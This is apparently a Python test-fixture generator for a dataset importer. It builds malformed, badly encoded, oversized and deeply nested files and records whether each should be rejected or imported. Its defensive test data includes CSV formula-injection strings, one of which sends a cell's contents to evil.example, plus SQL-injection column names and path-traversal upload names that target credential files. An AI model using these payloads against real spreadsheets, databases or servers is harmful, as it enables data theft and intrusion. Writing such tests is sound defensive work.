"""Hostile input files for the importer, generated at test time from a seed.

One function per case. Each writes its file into a folder and returns a :class:`Case`
saying what the right answer is: either a rejection (and where: the line or row, the
field, a phrase of the message) or an import (and exactly which rows get stored). Each
function's docstring says what the file is and why that answer is right.

Nothing here is committed as data: the 50 MB line alone would bloat the repository,
and a generator states the hostile part of each file plainly.

>>> import tempfile
>>> with tempfile.TemporaryDirectory() as tmp:
...     cases = build_corpus(Path(tmp), seed=0, big=False)
>>> len(cases) >= 30, len({c.name for c in cases}) == len(cases)
(True, True)
"""

from __future__ import annotations

import dataclasses
import gzip
import json
import random
import string
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

#: What every imported row looks like here: (instruction, context, reference), as the
#: alpaca preset maps instruction, input and output.
Row = tuple[str, str | None, str | None]


@dataclass(frozen=True)
class Case:
    name: str
    path: Path
    doc: str
    #: the right answer: "reject" or "import"
    expect: str
    #: for a rejection: the location ("line 3", "row 2"; None: the whole file) ...
    where: str | None = None
    #: ... the field named (None: no single field applies) ...
    field: str | None = None
    #: ... and a phrase the message must contain
    phrase: str = ""
    #: for an import: every row stored, in file order, and the duplicates skipped
    rows: list[Row] = dataclasses.field(default_factory=list)
    n_duplicates: int = 0
    #: import options (ImportOptions fields)
    options: dict = dataclasses.field(default_factory=dict)


CASES: list[Callable[[Path, random.Random], Case]] = []


def case(fn: Callable[[Path, random.Random], Case]) -> Callable[[Path, random.Random], Case]:
    CASES.append(fn)
    return fn


def _words(rng: random.Random, n: int = 6) -> str:
    return " ".join(
        "".join(rng.choices(string.ascii_lowercase, k=rng.randint(2, 8))) for _ in range(n)
    ).capitalize()


def _alpaca(rng: random.Random, n: int) -> list[dict]:
    """``n`` distinct alpaca records; every other one has an input (a context)."""
    return [
        {
            "instruction": f"{_words(rng)} {i}?",
            "input": _words(rng, 12) if i % 2 else "",
            "output": _words(rng, 4) + ".",
        }
        for i in range(n)
    ]


def _rows(records: list[dict]) -> list[Row]:
    return [(r["instruction"], r["input"] or None, r["output"] or None) for r in records]


def _jsonl(records: list[dict]) -> bytes:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records).encode()


def _csv(records: list[dict]) -> bytes:
    import csv
    import io

    buf = io.StringIO(newline="")
    # csv's own line ending: with "\n" a bare CR inside a cell would go out unquoted.
    w = csv.writer(buf)
    w.writerow(["instruction", "input", "output"])
    w.writerows([r["instruction"], r["input"], r["output"]] for r in records)
    return buf.getvalue().encode()


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def _case(fn, path: Path, expect: str, **kw) -> Case:
    return Case(fn.__name__, path, " ".join((fn.__doc__ or "").split()), expect, **kw)


# ---------------------------------------------------------------- malformed JSON, JSONL


@case
def json_unclosed_brace(folder: Path, rng: random.Random) -> Case:
    """A JSON array whose last object never closes (a file cut off mid-write).
    Rejected: malformed JSON at line 2, where the document ends (after the newline)."""
    text = json.dumps(_alpaca(rng, 2), indent=None)[:-2] + "\n"
    path = _write(folder, "unclosed.json", text.encode())
    return _case(json_unclosed_brace, path, "reject", where="line 2", phrase="malformed JSON")


@case
def json_trailing_garbage(folder: Path, rng: random.Random) -> Case:
    """A valid JSON array followed by a stray bracket on the next line. Rejected at
    line 2: what follows the document is not ignored, it may be the rest of the data."""
    text = json.dumps(_alpaca(rng, 3)) + "\n]\n"
    path = _write(folder, "trailing.json", text.encode())
    return _case(json_trailing_garbage, path, "reject", where="line 2", phrase="unexpected content")


@case
def jsonl_trailing_garbage(folder: Path, rng: random.Random) -> Case:
    """JSONL whose line 3 holds a record followed by garbage. Rejected at line 3."""
    lines = _jsonl(_alpaca(rng, 5)).decode().splitlines()
    lines[2] += " oops"
    path = _write(folder, "trailing.jsonl", ("\n".join(lines) + "\n").encode())
    return _case(jsonl_trailing_garbage, path, "reject", where="line 3", phrase="malformed JSON")


@case
def jsonl_bad_line_middle(folder: Path, rng: random.Random) -> Case:
    """200 good lines with line 101 cut off mid-record. Rejected at line 101, nothing
    imported (an import is all or nothing: 100 rows in and 100 out would be a mess)."""
    lines = _jsonl(_alpaca(rng, 200)).decode().splitlines()
    lines[100] = lines[100][: len(lines[100]) // 2]
    path = _write(folder, "bad_middle.jsonl", ("\n".join(lines) + "\n").encode())
    return _case(jsonl_bad_line_middle, path, "reject", where="line 101", phrase="malformed JSON")


@case
def jsonl_csv_under_jsonl_name(folder: Path, rng: random.Random) -> Case:
    """A CSV file saved with a .jsonl name. Rejected at line 1 as malformed JSON (the
    suffix picks the reader; guessing would hide a mislabelled file)."""
    path = _write(folder, "really_csv.jsonl", _csv(_alpaca(rng, 3)))
    return _case(
        jsonl_csv_under_jsonl_name, path, "reject", where="line 1", phrase="malformed JSON"
    )


@case
def jsonl_scalar_line(folder: Path, rng: random.Random) -> Case:
    """JSONL whose line 2 is the number 17, valid JSON but not a record. Rejected at
    line 2: expected an object."""
    lines = _jsonl(_alpaca(rng, 3)).decode().splitlines()
    lines.insert(1, "17")
    path = _write(folder, "scalar_line.jsonl", ("\n".join(lines) + "\n").encode())
    return _case(jsonl_scalar_line, path, "reject", where="line 2", phrase="expected an object")


@case
def json_top_level_scalar(folder: Path, rng: random.Random) -> Case:
    """A .json file that is just the number 42. Rejected: expected an array of records."""
    path = _write(folder, "scalar.json", b"42\n")
    return _case(json_top_level_scalar, path, "reject", phrase="expected a JSON array")


@case
def json_top_level_string(folder: Path, rng: random.Random) -> Case:
    """A .json file that is one string. Rejected: expected an array of records."""
    path = _write(folder, "string.json", json.dumps(_words(rng)).encode())
    return _case(json_top_level_string, path, "reject", phrase="expected a JSON array")


@case
def jsonl_wrong_type_instruction(folder: Path, rng: random.Random) -> Case:
    """Line 3's instruction is a number. Rejected at line 3, field 'instruction':
    stringifying it would invent text the author never wrote."""
    records: list[dict] = _alpaca(rng, 4)
    records[2]["instruction"] = 12345
    path = _write(folder, "wrong_type.jsonl", _jsonl(records))
    return _case(jsonl_wrong_type_instruction, path, "reject", where="line 3", field="instruction")


# ---------------------------------------------------------------- malformed CSV


@case
def csv_unbalanced_quote(folder: Path, rng: random.Random) -> Case:
    """Line 3 opens a quoted field that never closes. Rejected at line 3. (It used to
    import: DuckDB's sniffer fell back to no quoting, and the stored text kept the
    literal quote characters.)"""
    recs = _alpaca(rng, 4)
    lines = _csv(recs).decode().splitlines()
    lines[2] = '"' + lines[2]
    path = _write(folder, "unbalanced.csv", ("\n".join(lines) + "\n").encode())
    return _case(csv_unbalanced_quote, path, "reject", where="line 3", phrase="quoted field")


@case
def csv_ragged_long_row(folder: Path, rng: random.Random) -> Case:
    """Line 4 has one cell too many. Rejected at line 4: which cell is extra is a guess."""
    lines = _csv(_alpaca(rng, 5)).decode().splitlines()
    lines[3] += ",extra"
    path = _write(folder, "ragged_long.csv", ("\n".join(lines) + "\n").encode())
    return _case(csv_ragged_long_row, path, "reject", where="line 4", phrase="expected 3 columns")


@case
def csv_ragged_short_row(folder: Path, rng: random.Random) -> Case:
    """Line 3 has one cell too few. Rejected at line 3."""
    lines = _csv(_alpaca(rng, 5)).decode().splitlines()
    lines[2] = lines[2].rsplit(",", 1)[0]
    path = _write(folder, "ragged_short.csv", ("\n".join(lines) + "\n").encode())
    return _case(csv_ragged_short_row, path, "reject", where="line 3", phrase="expected 3 columns")


@case
def csv_quoted_multiline(folder: Path, rng: random.Random) -> Case:
    """Well-formed CSV with quoted fields holding newlines, commas and doubled quotes.
    Imported exactly: the newline and the single quote character are the data."""
    recs = _alpaca(rng, 3)
    recs[1]["instruction"] = 'Summarise, briefly:\nthe "quoted" part'
    recs[2]["output"] = 'Line one.\r\nLine "two", with a comma.'
    path = _write(folder, "multiline.csv", _csv(recs))
    return _case(csv_quoted_multiline, path, "import", rows=_rows(recs))


@case
def csv_duplicate_header(folder: Path, rng: random.Random) -> Case:
    """A CSV header naming 'instruction' twice (two exports pasted side by side).
    Rejected at line 1, field 'instruction': either column could be the data. (DuckDB
    alone renamed the second and imported the first; the csv module kept the second.)"""
    recs = _alpaca(rng, 3)
    lines = _csv(recs).decode().split("\r\n")
    lines[0] += ",instruction"
    lines[1:] = [ln + ",other" if ln else ln for ln in lines[1:]]
    path = _write(folder, "dup_header.csv", "\r\n".join(lines).encode())
    return _case(
        csv_duplicate_header, path, "reject", where="line 1", field="instruction", phrase="twice"
    )


@case
def csv_empty_header_only(folder: Path, rng: random.Random) -> Case:
    """A CSV with a header and no rows. Rejected: no records."""
    path = _write(folder, "header_only.csv", b"instruction,input,output\n")
    return _case(csv_empty_header_only, path, "reject", phrase="no records")


# ---------------------------------------------------------------- encodings, BOMs, NUL


@case
def jsonl_latin1(folder: Path, rng: random.Random) -> Case:
    """Line 3 is Latin-1 ("café" as byte 0xE9). Rejected at line 3: not UTF-8. Decoding
    it as Latin-1 would be a guess that turns real UTF-8 mistakes into mojibake."""
    recs = _alpaca(rng, 4)
    recs[2]["instruction"] = "Order a café crème."
    data = b"".join(
        (json.dumps(r, ensure_ascii=False) + "\n").encode("latin-1" if i == 2 else "utf-8")
        for i, r in enumerate(recs)
    )
    path = _write(folder, "latin1.jsonl", data)
    return _case(jsonl_latin1, path, "reject", where="line 3", phrase="not valid UTF-8")


@case
def csv_latin1(folder: Path, rng: random.Random) -> Case:
    """A CSV saved as Latin-1 (Excel's old default), non-ASCII on line 2. Rejected at
    line 2: not UTF-8."""
    recs = _alpaca(rng, 3)
    recs[0]["output"] = "Naïve façade."
    path = _write(folder, "latin1.csv", _csv(recs).decode().encode("latin-1"))
    return _case(csv_latin1, path, "reject", where="line 2", phrase="not valid UTF-8")


@case
def jsonl_invalid_utf8(folder: Path, rng: random.Random) -> Case:
    """Line 5 holds the invalid UTF-8 sequence C3 28 inside a string. Rejected at line 5."""
    lines = _jsonl(_alpaca(rng, 6)).splitlines()
    lines[4] = lines[4].replace(b'"instruction": "', b'"instruction": "\xc3\x28', 1)
    path = _write(folder, "invalid_utf8.jsonl", b"\n".join(lines) + b"\n")
    return _case(jsonl_invalid_utf8, path, "reject", where="line 5", phrase="not valid UTF-8")


@case
def jsonl_utf16_bom(folder: Path, rng: random.Random) -> Case:
    """JSONL saved as UTF-16 with a byte order mark (Windows "Unicode"). Rejected, the
    message says it is UTF-16 and to save it as UTF-8."""
    path = _write(folder, "utf16_bom.jsonl", _jsonl(_alpaca(rng, 3)).decode().encode("utf-16"))
    return _case(jsonl_utf16_bom, path, "reject", phrase="UTF-16")


@case
def csv_utf16_no_bom(folder: Path, rng: random.Random) -> Case:
    """CSV saved as UTF-16-LE without a byte order mark: every other byte is NUL.
    Rejected at line 1 for the NUL byte (naming UTF-16 as the likely cause). DuckDB alone
    read it as one garbled column."""
    path = _write(folder, "utf16.csv", _csv(_alpaca(rng, 3)).decode().encode("utf-16-le"))
    return _case(csv_utf16_no_bom, path, "reject", where="line 1", phrase="NUL byte")


@case
def jsonl_utf16be_no_bom(folder: Path, rng: random.Random) -> Case:
    """JSONL as UTF-16-BE without a byte order mark. Rejected at line 1: NUL byte."""
    data = _jsonl(_alpaca(rng, 2)).decode().encode("utf-16-be")
    path = _write(folder, "utf16be.jsonl", data)
    return _case(jsonl_utf16be_no_bom, path, "reject", where="line 1", phrase="NUL byte")


@case
def jsonl_utf8_bom(folder: Path, rng: random.Random) -> Case:
    """JSONL starting with a UTF-8 byte order mark (Notepad writes one). Imported
    exactly: the mark is an encoding signature, not part of the first key."""
    recs = _alpaca(rng, 3)
    path = _write(folder, "bom.jsonl", b"\xef\xbb\xbf" + _jsonl(recs))
    return _case(jsonl_utf8_bom, path, "import", rows=_rows(recs))


@case
def csv_utf8_bom(folder: Path, rng: random.Random) -> Case:
    """CSV with a UTF-8 byte order mark (Excel's "CSV UTF-8"). Imported exactly; the
    first column is still found as 'instruction'."""
    recs = _alpaca(rng, 3)
    path = _write(folder, "bom.csv", b"\xef\xbb\xbf" + _csv(recs))
    return _case(csv_utf8_bom, path, "import", rows=_rows(recs))


@case
def json_utf8_bom(folder: Path, rng: random.Random) -> Case:
    """A .json array with a UTF-8 byte order mark. Imported exactly."""
    recs = _alpaca(rng, 3)
    path = _write(folder, "bom.json", b"\xef\xbb\xbf" + json.dumps(recs).encode())
    return _case(json_utf8_bom, path, "import", rows=_rows(recs))


@case
def jsonl_raw_nul_byte(folder: Path, rng: random.Random) -> Case:
    """A raw NUL byte inside a string on line 2. Rejected at line 2: a UTF-8 text file
    never holds one (JSON writes it \\u0000)."""
    lines = _jsonl(_alpaca(rng, 3)).splitlines()
    lines[1] = lines[1].replace(b'"output": "', b'"output": "a\x00b', 1)
    path = _write(folder, "nul.jsonl", b"\n".join(lines) + b"\n")
    return _case(jsonl_raw_nul_byte, path, "reject", where="line 2", phrase="NUL byte")


@case
def csv_raw_nul_byte(folder: Path, rng: random.Random) -> Case:
    """A raw NUL byte in a CSV cell on line 3. Rejected at line 3 (DuckDB alone stored it)."""
    lines = _csv(_alpaca(rng, 3)).splitlines()
    lines[2] = b"x\x00" + lines[2]
    path = _write(folder, "nul.csv", b"\n".join(lines) + b"\n")
    return _case(csv_raw_nul_byte, path, "reject", where="line 3", phrase="NUL byte")


@case
def jsonl_escaped_nul(folder: Path, rng: random.Random) -> Case:
    """A NUL written the JSON way, as \\u0000, inside an instruction. Imported exactly:
    the file asks for that character, and DuckDB stores it like any other."""
    recs = _alpaca(rng, 2)
    recs[1]["instruction"] = "Before\x00after?"
    path = _write(folder, "escaped_nul.jsonl", _jsonl(recs))
    return _case(jsonl_escaped_nul, path, "import", rows=_rows(recs))


@case
def json_lone_surrogate(folder: Path, rng: random.Random) -> Case:
    """A .json string holding a lone UTF-16 surrogate (\\ud800), which no UTF-8 text can
    hold. Rejected at line 1 (it used to pass the json module and crash in pyarrow)."""
    recs = _alpaca(rng, 2)
    text = json.dumps(recs).replace('"instruction": "', '"instruction": "\\ud800', 1)
    path = _write(folder, "surrogate.json", text.encode())
    return _case(json_lone_surrogate, path, "reject", where="line 1", phrase="surrogate")


# ---------------------------------------------------------------- size and shape


@case
def jsonl_50mb_line(folder: Path, rng: random.Random, big: bool = True) -> Case:
    """Line 2's instruction is 50 MB of text on one line. Rejected at line 2, field
    'instruction', for its length (the limit is max_chars), in seconds, not minutes."""
    recs = _alpaca(rng, 3)
    n = 50_000_000 if big else 200_000
    recs[1]["instruction"] = "a" * n
    path = _write(folder, "huge_line.jsonl", _jsonl(recs))
    return _case(
        jsonl_50mb_line,
        path,
        "reject",
        where="line 2",
        field="instruction",
        phrase=f"{n:,} characters",
    )


@case
def csv_5mb_field(folder: Path, rng: random.Random, big: bool = True) -> Case:
    """A CSV whose line 3 has a 5 MB output cell: past DuckDB's 2 MB line limit and the
    csv module's 131,072-character field cap. Rejected at line 3, field 'output', for
    its length under max_chars (not "field larger than field limit")."""
    recs = _alpaca(rng, 3)
    n = 5_000_000 if big else 200_000
    recs[1]["output"] = "b" * n
    path = _write(folder, "huge_field.csv", _csv(recs))
    return _case(
        csv_5mb_field, path, "reject", where="line 3", field="output", phrase=f"{n:,} characters"
    )


@case
def json_deep_nesting(folder: Path, rng: random.Random) -> Case:
    """A .json document nested 100,000 arrays deep. Rejected at line 1 as malformed
    (nesting beyond 1,024 levels). It used to crash ``reset-studio import`` with a
    RecursionError traceback."""
    depth = 100_000
    path = _write(folder, "deep.json", b"[" * depth + b"]" * depth + b"\n")
    return _case(
        json_deep_nesting, path, "reject", where="line 1", phrase="nested more than 1,024 levels"
    )


@case
def jsonl_deep_nesting(folder: Path, rng: random.Random) -> Case:
    """Line 2 carries an extra field nested 50,000 levels deep. Rejected at line 2."""
    lines = _jsonl(_alpaca(rng, 3)).splitlines()
    lines[1] = lines[1][:-1] + b', "extra": ' + b"[" * 50_000 + b"]" * 50_000 + b"}"
    path = _write(folder, "deep.jsonl", b"\n".join(lines) + b"\n")
    return _case(
        jsonl_deep_nesting, path, "reject", where="line 2", phrase="nested more than 1,024 levels"
    )


@case
def jsonl_empty(folder: Path, rng: random.Random) -> Case:
    """An empty .jsonl file (0 bytes). Rejected: no records."""
    path = _write(folder, "empty.jsonl", b"")
    return _case(jsonl_empty, path, "reject", phrase="no records")


@case
def jsonl_whitespace_only(folder: Path, rng: random.Random) -> Case:
    """A .jsonl file of blank lines, spaces and tabs. Rejected: no records."""
    path = _write(folder, "blank.jsonl", b"  \n\n\t\n \r\n")
    return _case(jsonl_whitespace_only, path, "reject", phrase="no records")


@case
def json_empty(folder: Path, rng: random.Random) -> Case:
    """An empty .json file. Rejected at line 1: an empty document is not JSON."""
    path = _write(folder, "empty.json", b"")
    return _case(json_empty, path, "reject", where="line 1", phrase="malformed JSON")


@case
def jsonl_gzip(folder: Path, rng: random.Random) -> Case:
    """A gzip-compressed JSONL saved under a plain .jsonl name. Rejected: the message
    says it is gzip-compressed (not "invalid UTF-8 on line 1")."""
    path = _write(folder, "compressed.jsonl", gzip.compress(_jsonl(_alpaca(rng, 5)), mtime=0))
    return _case(jsonl_gzip, path, "reject", phrase="gzip")


@case
def jsonl_huge_field_count(folder: Path, rng: random.Random) -> Case:
    """One record with 100,000 keys besides the alpaca ones. Imported safely (the extra
    keys are not mapped) and in seconds: DuckDB's schema inference took over a minute
    on it, so a file this wide goes to the row reader."""
    recs = _alpaca(rng, 2)
    recs[0] = {**recs[0], **{f"k{i}": i for i in range(100_000)}}
    path = _write(folder, "wide.jsonl", _jsonl(recs))
    return _case(jsonl_huge_field_count, path, "import", rows=_rows(recs))


@case
def csv_huge_field_count(folder: Path, rng: random.Random) -> Case:
    """A CSV with 5,000 extra columns. Imported safely, the extra columns ignored."""
    recs = _alpaca(rng, 3)
    header = "instruction,input,output," + ",".join(f"c{i}" for i in range(5_000))
    body = "".join(
        f"{r['instruction']},{r['input']},{r['output']}," + ",".join("1" * 5_000) + "\n"
        for r in recs
    )
    path = _write(folder, "wide.csv", (header + "\n" + body).encode())
    return _case(csv_huge_field_count, path, "import", rows=_rows(recs))


@case
def parquet_truncated(folder: Path, rng: random.Random) -> Case:
    """A Parquet file cut to its first half (an interrupted copy). Rejected: not a
    readable Parquet file."""
    full = folder / "full.parquet"
    pq.write_table(pa.Table.from_pylist(_alpaca(rng, 50)), full)
    data = full.read_bytes()
    full.unlink()
    path = _write(folder, "truncated.parquet", data[: len(data) // 2])
    return _case(parquet_truncated, path, "reject", phrase="not a readable Parquet file")


@case
def parquet_random_bytes(folder: Path, rng: random.Random) -> Case:
    """4 KB of random bytes named .parquet. Rejected: not a readable Parquet file."""
    path = _write(folder, "junk.parquet", rng.randbytes(4096))
    return _case(parquet_random_bytes, path, "reject", phrase="not a readable Parquet file")


@case
def parquet_invalid_utf8(folder: Path, rng: random.Random) -> Case:
    """A Parquet file whose string column holds invalid UTF-8 on row 2 (Parquet does
    not check, and pyarrow reads it unchecked). Rejected at row 2, field 'instruction';
    it used to escape as a UnicodeDecodeError."""
    recs = _alpaca(rng, 3)
    values = [r["instruction"].encode() for r in recs]
    values[1] = b"Bad \xff byte?"
    raw = pa.array(values, type=pa.binary())
    column = pa.Array.from_buffers(pa.string(), len(raw), raw.buffers())
    table = pa.table(
        {
            "instruction": column,
            "input": [r["input"] for r in recs],
            "output": [r["output"] for r in recs],
        }
    )
    path = folder / "bad_utf8.parquet"
    pq.write_table(table, path)
    return _case(
        parquet_invalid_utf8,
        path,
        "reject",
        where="row 2",
        field="instruction",
        phrase="not valid UTF-8",
    )


@case
def parquet_good(folder: Path, rng: random.Random) -> Case:
    """A well-formed Parquet file with a context on every other row (the control for
    the damaged ones). Imported exactly."""
    recs = _alpaca(rng, 4)
    path = folder / "good.parquet"
    pq.write_table(pa.Table.from_pylist(recs), path)
    return _case(parquet_good, path, "import", rows=_rows(recs))


# ---------------------------------------------------------------- values


@case
def jsonl_nan(folder: Path, rng: random.Random) -> Case:
    """Line 2's output is the literal NaN (Python's json.dumps writes it). Rejected at
    line 2, field 'output': NaN is not JSON, and storing "NaN" as a reference answer
    would be invented text."""
    lines = _jsonl(_alpaca(rng, 3)).decode().splitlines()
    rec = json.loads(lines[1])
    lines[1] = lines[1].replace(json.dumps(rec["output"]), "NaN")
    path = _write(folder, "nan.jsonl", ("\n".join(lines) + "\n").encode())
    return _case(jsonl_nan, path, "reject", where="line 2", field="output", phrase="NaN")


@case
def json_infinity(folder: Path, rng: random.Random) -> Case:
    """A .json array, one record per line, whose third record has "score": Infinity.
    Rejected at line 3, field 'score': Infinity is not JSON."""
    recs = _alpaca(rng, 3)
    recs[2]["score"] = float("inf")
    text = "[\n" + ",\n".join(json.dumps(r) for r in recs) + "\n]\n"
    path = _write(folder, "infinity.json", text.encode())
    return _case(json_infinity, path, "reject", where="line 4", field="score", phrase="Infinity")


@case
def jsonl_mixed_schemas(folder: Path, rng: random.Random) -> Case:
    """Alpaca lines, then a QA-shaped line (question, context, answers) at line 3. The
    preset comes from the first line, so line 3 is rejected for its missing
    instruction; importing it as an empty example would be wrong."""
    recs: list[dict] = _alpaca(rng, 4)
    recs[2] = {"question": _words(rng), "context": _words(rng, 20), "answers": ["x"]}
    path = _write(folder, "mixed.jsonl", _jsonl(recs))
    return _case(jsonl_mixed_schemas, path, "reject", where="line 3", field="instruction")


@case
def jsonl_varying_extra_keys(folder: Path, rng: random.Random) -> Case:
    """Every line has the alpaca keys plus different extra keys (a score here, a tag
    list there). Imported exactly; the extras are not mapped and not stored."""
    recs = _alpaca(rng, 6)
    extra = [{"score": 0.5}, {"tags": ["a", "b"]}, {}, {"meta": {"x": 1}}, {"id2": 7}, {}]
    path = _write(
        folder, "extras.jsonl", _jsonl([{**r, **e} for r, e in zip(recs, extra, strict=True)])
    )
    return _case(jsonl_varying_extra_keys, path, "import", rows=_rows(recs))


@case
def jsonl_duplicate_ids(folder: Path, rng: random.Random) -> Case:
    """Lines 1 and 4 share the id "q-1" with different content. Rejected at line 4,
    field 'id', naming line 1: which one is right is the author's call."""
    recs = _alpaca(rng, 5)
    for i, r in enumerate(recs):
        r["id"] = f"q-{i}"
    recs[3]["id"] = "q-1"
    path = _write(folder, "dup_ids.jsonl", _jsonl(recs))
    return _case(jsonl_duplicate_ids, path, "reject", where="line 4", field="id", phrase="line 2")


@case
def jsonl_duplicate_content(folder: Path, rng: random.Random) -> Case:
    """Line 4 repeats line 2 exactly (no ids). Imported once, one duplicate counted."""
    recs = _alpaca(rng, 4)
    path = _write(folder, "dup_content.jsonl", _jsonl([*recs, recs[1]]))
    return _case(jsonl_duplicate_content, path, "import", rows=_rows(recs), n_duplicates=1)


@case
def jsonl_control_characters(folder: Path, rng: random.Random) -> Case:
    """Text with an ANSI colour escape, a bell, a backspace, a form feed and a bare CR.
    Imported exactly: it is the example's text; what prints it must escape it."""
    recs = _alpaca(rng, 3)
    recs[0]["instruction"] = "\x1b[31mRed alert\x1b[0m\x07 now?"
    recs[1]["input"] = "Back\x08space and feed\x0c here.\rOverwritten."
    recs[2]["output"] = "Tab\there, vertical\x0btab."
    path = _write(folder, "control.jsonl", _jsonl(recs))
    return _case(jsonl_control_characters, path, "import", rows=_rows(recs))


@case
def jsonl_bidi_zero_width(folder: Path, rng: random.Random) -> Case:
    """Right-to-left override, Arabic text, zero-width space/joiner and an inner U+FEFF.
    Imported exactly, not normalised: "Say hi" with a zero-width space is a different
    example from "Say hi", and both are kept."""
    recs = [
        {"instruction": "Say hi", "input": "", "output": "Hi."},
        {"instruction": "Say\u200b hi", "input": "", "output": "Hi."},
        {"instruction": "Translate: \u202egnp.exe\u202c", "input": "", "output": "ok"},
        {"instruction": "ما هو الطقس؟", "input": "مرحبا\u200dبك", "output": "\ufeffSunny."},
    ]
    path = _write(folder, "bidi.jsonl", _jsonl(recs))
    return _case(jsonl_bidi_zero_width, path, "import", rows=_rows(recs))


#: Cells a spreadsheet runs as formulas (OWASP's CSV injection list).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


@case
def jsonl_formula_strings(folder: Path, rng: random.Random) -> Case:
    """Instructions and outputs that a spreadsheet would run as formulas. Imported
    exactly: to the database and to JSONL/Parquet exports they are text; only a CSV
    export must neutralise them."""
    recs = [
        {"instruction": f, "input": "", "output": FORMULAS[(i + 1) % len(FORMULAS)]}
        for i, f in enumerate(FORMULAS)
    ]
    path = _write(folder, "formulas.jsonl", _jsonl(recs))
    return _case(jsonl_formula_strings, path, "import", rows=_rows(recs))


@case
def csv_formula_strings(folder: Path, rng: random.Random) -> Case:
    """The same formula strings in a CSV (quoted where CSV needs it). Imported exactly."""
    recs = [
        {"instruction": f"{f} {i}", "input": "", "output": FORMULAS[(i + 2) % len(FORMULAS)]}
        for i, f in enumerate(FORMULAS)
    ]
    path = _write(folder, "formulas.csv", _csv(recs))
    return _case(csv_formula_strings, path, "import", rows=_rows(recs))


@case
def csv_sql_in_column_names(folder: Path, rng: random.Random) -> Case:
    """Column names written as SQL (a quote, a semicolon, DROP TABLE) and mapped
    explicitly. Imported exactly: the SQL reader quotes every identifier, so a name is
    only ever a name, and every table is still there afterwards."""
    recs = _alpaca(rng, 3)
    names = ['q"); DROP TABLE examples; --', "c' OR '1'='1", 'r""; DELETE FROM imports; --']
    body = _csv(recs).decode().split("\r\n", 1)[1]
    header = ",".join('"' + n.replace('"', '""') + '"' for n in names)
    path = _write(folder, "sql_names.csv", (header + "\r\n" + body).encode())
    mapping = dict(zip(("instruction", "context", "reference"), names, strict=True))
    return _case(
        csv_sql_in_column_names,
        path,
        "import",
        rows=_rows(recs),
        options={"mapping": mapping, "kind": "instruction"},
    )


@case
def jsonl_crlf(folder: Path, rng: random.Random) -> Case:
    """JSONL with Windows line endings. Imported exactly, no stray CR in the text."""
    recs = _alpaca(rng, 4)
    path = _write(folder, "crlf.jsonl", _jsonl(recs).replace(b"\n", b"\r\n"))
    return _case(jsonl_crlf, path, "import", rows=_rows(recs))


#: Uploaded file names a browser (or a crafted request) may send, with what each must
#: become: a bare name inside the session's folder that keeps its suffix.
UPLOAD_NAMES = {
    "../../x.jsonl": "x.jsonl",
    "../../../etc/passwd": "passwd",
    "/etc/cron.d/evil.csv": "evil.csv",
    "/abs/path/data.parquet": "data.parquet",
    "..\\..\\windows\\win.ini": "win.ini",
    "C:\\Users\\me\\data.jsonl": "data.jsonl",
    "a/../../b.csv": "b.csv",
    "file:///etc/shadow.json": "shadow.json",
    "~/.ssh/id_rsa": "id_rsa",
    "data.jsonl\x00.png": "data.jsonl.png",
    "\x00": "upload",
    "..": "upload",
    ".": "upload",
    "": "upload",
    ".jsonl": "upload.jsonl",
    "....jsonl": "upload.jsonl",
    "\u202egnp.jsonl": "gnp.jsonl",
    "name with\nnewline.csv": "name with_newline.csv",
    "x" * 5000 + ".jsonl": "x" * 100 + ".jsonl",
    "my data (v2).jsonl": "my data (v2).jsonl",
}


def build_corpus(folder: Path, seed: int = 0, big: bool = True) -> list[Case]:
    """Write every case's file under ``folder``; ``big=False`` shrinks the 50 MB ones."""
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    out = []
    for fn in CASES:
        kw = {"big": big} if fn in (jsonl_50mb_line, csv_5mb_field) else {}
        out.append(fn(folder, rng, **kw))
    return out
